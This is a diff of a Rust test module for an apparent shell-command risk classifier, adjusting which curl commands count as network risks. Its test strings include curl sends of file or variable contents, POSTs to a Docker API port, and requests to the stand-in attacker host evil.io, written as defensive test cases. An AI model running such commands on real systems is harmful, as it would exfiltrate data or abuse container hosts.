@@ -75,8 +75,16 @@ mod tests {
             check(command, "read", &["network"]);
         }
         check("HOME=. curl localhost", "unknown", &["exec", "network"]);
-        check("curl -d a=b localhost", "write", &["network"]);
-        check("curl -X POST localhost", "write", &["network"]);
+        check("curl -d a=b localhost", "write", &[]);
+        check("curl -X POST localhost:3000/x", "write", &[]);
+        check("curl --json '{}' http://localhost:3000/x", "write", &[]);
+        check("curl -I http://[::1]:3000", "read", &[]);
+        check("curl -d @a localhost", "write", &["network"]);
+        check("curl -d $x localhost", "write", &["network"]);
+        check("curl -X POST localhost:2375/containers/create", "write", &["network"]);
+        check("curl -d a=b localhost evil.io", "write", &["network"]);
+        check("curl http://[::1].evil.io/", "read", &["network"]);
+        check("curl -X POST evil.io", "write", &["network"]);
         check("curl -X DELETE localhost/a", "destructive", &["network"]);
         check("curl -T a localhost", "write", &["network"]);
         check("curl -o a localhost", "write", &["network"]);
